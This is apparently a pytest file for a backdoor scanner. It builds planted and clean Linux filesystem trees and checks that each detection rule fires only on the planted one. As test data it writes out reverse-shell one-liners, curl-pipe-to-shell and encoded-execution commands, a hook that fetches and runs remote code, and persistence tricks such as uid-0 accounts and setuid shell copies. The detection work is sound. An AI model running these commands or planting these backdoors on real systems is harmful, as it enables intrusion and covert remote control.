"""Every SW-BD check, over real directory trees: the planted fixture (the same files
the lab image tests/lab/images/backdoor-planted ships) must trip it, a clean
look-alike tree (benign versions of the same files) must not."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from seawall.analyzers.backdoor import scan_filesystem
from seawall.analyzers.backdoor.check_registry import CHECKS
from seawall.analyzers.backdoor.command_patterns import suspicious_command
from seawall.fs.directory import DirectoryFileSystem
from seawall.model.finding import Finding

PLANTED_ROOTFS = Path(__file__).parent / "lab" / "images" / "backdoor-planted" / "rootfs"
ELF = Path("/bin/true").read_bytes()

# Benign look-alikes: same locations, ordinary content, package-owned where it matters.
CLEAN_FILES: dict[str, str] = {
    "/etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "/etc/cron.d/e2scrub_all": "30 3 * * 0 root test -e /run/systemd/system || "
                               "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
    "/etc/cron.daily/dpkg": "#!/bin/sh\ntest -x /usr/libexec/dpkg/dpkg-db-backup || exit 0\n",
    "/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
    "/etc/ld.so.conf.d/x86_64-linux-gnu.conf": "/usr/local/lib/x86_64-linux-gnu\n",
    "/etc/environment": "LANG=C.UTF-8\n",
    "/etc/profile": 'if [ "$(id -u)" -eq 0 ]; then PATH="/usr/local/sbin:/usr/bin"; fi\n'
                    "export PATH\n",
    "/etc/profile.d/locale.sh": "export LANG=C.UTF-8\n[ -d /tmp/.X11-unix ] || true\n",
    "/etc/bash.bashrc": "#PROMPT_COMMAND='echo -ne \"\\033]0;${USER}\\007\"'\n"
                        "PROMPT_COMMAND='echo -ne \"\\033]0;${USER}@${HOSTNAME}\\007\"'\n",
    "/home/alice/.bashrc": "alias ls='ls --color=auto'\nalias grep='grep --color=auto'\n"
                           "alias sudo='sudo '\nexport HISTSIZE=1000\n",
    "/lib/systemd/system/cron.service": "[Service]\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n",
    "/lib/systemd/system/apt-daily.timer": "[Timer]\nOnCalendar=*-*-* 6,18:00\n",
    "/lib/systemd/system-generators/systemd-gpt-auto-generator": "ELF\n",
    "/etc/rc.local": "#!/bin/sh -e\n# rc.local\nexit 0\n",
    "/etc/init.d/cron": "#!/bin/sh\nstart-stop-daemon --start --exec /usr/sbin/cron\n"
                        "rm -f /tmp/cron.pid\n",
    "/etc/inittab": "id:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\n",
    "/etc/inetd.conf": "# daytime stream tcp nowait root internal\n",
    "/etc/xinetd.d/echo": "service echo\n{\n disable = yes\n server = /bin/sh\n}\n",
    "/etc/hosts.allow": "# /etc/hosts.allow\nsshd: 10.0.0.0/8\n",
    "/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\n"
                            "PermitRootLogin prohibit-password\n"
                            "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n",
    "/usr/lib/x86_64-linux-gnu/security/pam_unix.so": "owned module\n",
    "/etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\n"
                              "auth requisite pam_deny.so\nauth required pam_permit.so\n",
    "/usr/lib/modules/6.1.0-18-amd64/kernel/fs/ext4.ko": "owned module\n",
    "/etc/update-motd.d/10-uname": "#!/bin/sh\nuname -snrvm\n",
    "/etc/apt/apt.conf.d/docker-clean": 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb '
                                        '|| true"; };\n',
    "/usr/lib/python3/dist-packages/distutils-precedence.pth":
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local')"
        " == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    "/usr/lib/python3/dist-packages/setuptools-66.1.1.dist-info/RECORD":
        "distutils-precedence.pth,sha256=x,151\n",
    "/usr/lib/python3.11/sitecustomize.py": "# Debian's own\nimport sys\n",
    "/srv/repo/.git/hooks/pre-commit.sample": "#!/bin/sh\nexec git diff-index --check HEAD\n",
    "/tmp/notes.txt": "scratch\n",
    "/var/tmp/build.log": "log\n",
}
OWNED = ["/lib/systemd/system/cron.service", "/lib/systemd/system/apt-daily.timer",
         "/lib/systemd/system-generators/systemd-gpt-auto-generator",
         "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
         "/lib/modules/6.1.0-18-amd64/kernel/fs/ext4.ko", "/etc/update-motd.d/10-uname",
         "/usr/lib/python3.11/sitecustomize.py", "/usr/bin/passwd", "/usr/sbin/sshd"]


def _write(root: Path, path: str, data: str | bytes, mode: int = 0o644) -> None:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data.encode() if isinstance(data, str) else data)
    target.chmod(mode)


def _base(root: Path) -> None:
    """Accounts, shells and a dpkg database every tree shares."""
    _write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
           "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
           "alice:x:1000:1000::/home/alice:/bin/bash\n")
    _write(root, "/etc/shadow", "root:*:19000:0:99999:7:::\ndaemon:*:19000::::::\n"
           "alice:$y$j9T$abc$def:19000::::::\n", 0o640)
    (root / "root").mkdir(exist_ok=True)
    (root / "home/alice").mkdir(parents=True, exist_ok=True)
    _write(root, "/bin/bash", Path("/bin/bash").read_bytes(), 0o755)
    _write(root, "/bin/dash", Path("/bin/dash").read_bytes(), 0o755)
    _write(root, "/usr/sbin/sshd", ELF, 0o755)
    _write(root, "/var/lib/dpkg/info/base.list", "\n".join(["/bin/bash", "/bin/dash", *OWNED])
           + "\n")


@pytest.fixture(scope="module")
def planted_findings(tmp_path_factory: pytest.TempPathFactory) -> list[Finding]:
    root = tmp_path_factory.mktemp("planted")
    _base(root)
    shutil.copytree(PLANTED_ROOTFS, root, dirs_exist_ok=True, symlinks=True)
    # What the lab Dockerfile's RUN lines add (and its rename of dot-git, which git
    # cannot store under its real name).
    (root / "srv/repo/dot-git").rename(root / "srv/repo/.git")
    with (root / "etc/passwd").open("a") as passwd:
        passwd.write("sysadm:x:0:0::/root:/bin/bash\n")
    shadow = (root / "etc/shadow").read_text().replace("alice:$y$j9T$abc$def:", "alice::")
    (root / "etc/shadow").write_text(shadow)
    _write(root, "/var/tmp/.sh", Path("/bin/bash").read_bytes(), 0o4755)
    _write(root, "/usr/local/bin/xlog", Path("/bin/dash").read_bytes(), 0o4755)
    _write(root, "/tmp/.X11-cache/.kworker", ELF, 0o755)
    os.symlink("/usr/sbin/sshd", root / "usr/local/bin/su")
    fs = DirectoryFileSystem(str(root))
    return scan_filesystem(fs, ["PATH=/usr/bin", "LD_PRELOAD=/usr/local/lib/libprocesshider.so"])


@pytest.fixture(scope="module")
def clean_findings(tmp_path_factory: pytest.TempPathFactory) -> list[Finding]:
    root = tmp_path_factory.mktemp("clean")
    _base(root)
    for path, text in CLEAN_FILES.items():
        executable = "/cron.daily/" in path or "/init.d/" in path or "motd" in path \
            or path.endswith(("rc.local", ".sample", "generator"))
        _write(root, path, text, 0o755 if executable else 0o644)
    _write(root, "/usr/bin/passwd", ELF, 0o4755)  # setuid, but not a shell
    os.symlink("/usr/bin/passwd", root / "usr/bin/chfn")
    return scan_filesystem(DirectoryFileSystem(str(root)), ["PATH=/usr/bin", "LANG=C"])


def test_at_least_25_checks_registered() -> None:
    assert len(CHECKS) >= 25
    assert all(cid.startswith("SW-BD-") for cid in CHECKS)


@pytest.mark.parametrize("check_id", sorted(CHECKS))
def test_check_trips_on_planted_tree(check_id: str, planted_findings: list[Finding]) -> None:
    hits = [f for f in planted_findings if f.rule_id == check_id]
    assert hits, f"{check_id} ({CHECKS[check_id].title}) did not fire"
    for finding in hits:
        assert finding.location.path and finding.description
        assert finding.category.value == "backdoor"


@pytest.mark.parametrize("check_id", sorted(CHECKS))
def test_check_quiet_on_clean_tree(check_id: str, clean_findings: list[Finding]) -> None:
    assert [f.location.path for f in clean_findings if f.rule_id == check_id] == []


def test_line_numbers_and_evidence(planted_findings: list[Finding]) -> None:
    by_rule = {f.rule_id: f for f in planted_findings}
    assert by_rule["SW-BD-009"].location.path == "/home/alice/.bashrc"
    assert by_rule["SW-BD-009"].location.line == 4
    assert by_rule["SW-BD-022"].evidence is not None
    assert "PlantedFixtureKeyNotARealKey" not in by_rule["SW-BD-022"].evidence  # key is cut
    assert by_rule["SW-BD-021"].severity.value == "critical"  # + PermitRootLogin yes
    assert by_rule["SW-BD-029"].description.startswith("setuid")


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 203.0.113.7 80", "reverse-shell"),
        ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 1 > /tmp/f",
         "reverse-shell"),
        ("curl -fsSL http://203.0.113.7/x | bash", "download-exec"),
        ('sh -c "$(wget -qO- http://203.0.113.7/x)"', "download-exec"),
        ("echo ZWNobyBoaQ== | base64 -d | sh", "encoded-exec"),
        ("/dev/shm/.x/run", "tmp-exec"),
        ("useradd -o -u 0 backup", "user-mod"),
    ],
)
def test_command_patterns_flag_payloads(line: str, kind: str) -> None:
    hit = suspicious_command(line)
    assert hit is not None and hit.kind == kind


@pytest.mark.parametrize(
    "line",
    ["rm -rf /tmp/build", "TMPDIR=/tmp make", "find /tmp -type f -delete",
     "[ -d /tmp/.X11-unix ] || mkdir -m 1777 /tmp/.X11-unix", "# curl http://x | sh",
     "curl -fsSL -o /usr/share/keyrings/k.gpg https://example.org/k.gpg", "export PATH"],
)
def test_command_patterns_ignore_admin_lines(line: str) -> None:
    assert suspicious_command(line) is None


def test_git_hook_samples_of_a_clone_in_tmp_are_not_hidden_executables(tmp_path: Path) -> None:
    """``git init`` under /tmp copies git's executable ``*.sample`` hooks into a dot
    directory: not a hidden executable. A sample-named file with a payload, and an ELF
    binary under a sample name, still are."""
    root = tmp_path / "root"
    _base(root)
    repo = root / "tmp/build/app"
    repo.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    samples = sorted(p.name for p in (repo / ".git/hooks").glob("*.sample"))
    assert len(samples) >= 10
    doctored = root / "tmp/other/.git/hooks"
    _write(root, "/tmp/other/.git/hooks/pre-commit.sample",
           "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n", 0o755)
    _write(root, "/tmp/other/.git/hooks/update.sample", ELF, 0o755)
    findings = scan_filesystem(DirectoryFileSystem(str(root)), ["PATH=/usr/bin"])
    hidden = {f.location.path for f in findings if f.rule_id == "SW-BD-037"}
    assert hidden == {str("/" / doctored.relative_to(root) / name)
                      for name in ("pre-commit.sample", "update.sample")}


def test_empty_shadow_password_is_one_finding_with_weakpass(tmp_path: Path) -> None:
    """backdoor (SW-BD-028) and weakpass (SW-WP-001) both see a passwordless account
    in /etc/shadow: the report has one finding for it, naming the other rule."""
    from seawall import open_rootfs
    from seawall.scanning import ScanOptions
    from seawall.scanning.driver import scan_target

    root = tmp_path / "root"
    _base(root)
    shadow = (root / "etc/shadow").read_text().replace("alice:$y$j9T$abc$def:", "alice::")
    (root / "etc/shadow").write_text(shadow)
    with open_rootfs(str(root)) as target:
        report = scan_target(target, ["backdoor", "weakpass"],
                             options=ScanOptions(use_cache=False))
    empty = [f for f in report.findings if f.rule_id in ("SW-BD-028", "SW-WP-001")]
    assert len(empty) == 1, [(f.rule_id, f.location.path) for f in empty]
    assert empty[0].location.path == "/etc/shadow"
    assert set(empty[0].extra["also_reported_as"]) | {empty[0].rule_id} == {
        "SW-BD-028", "SW-WP-001"}
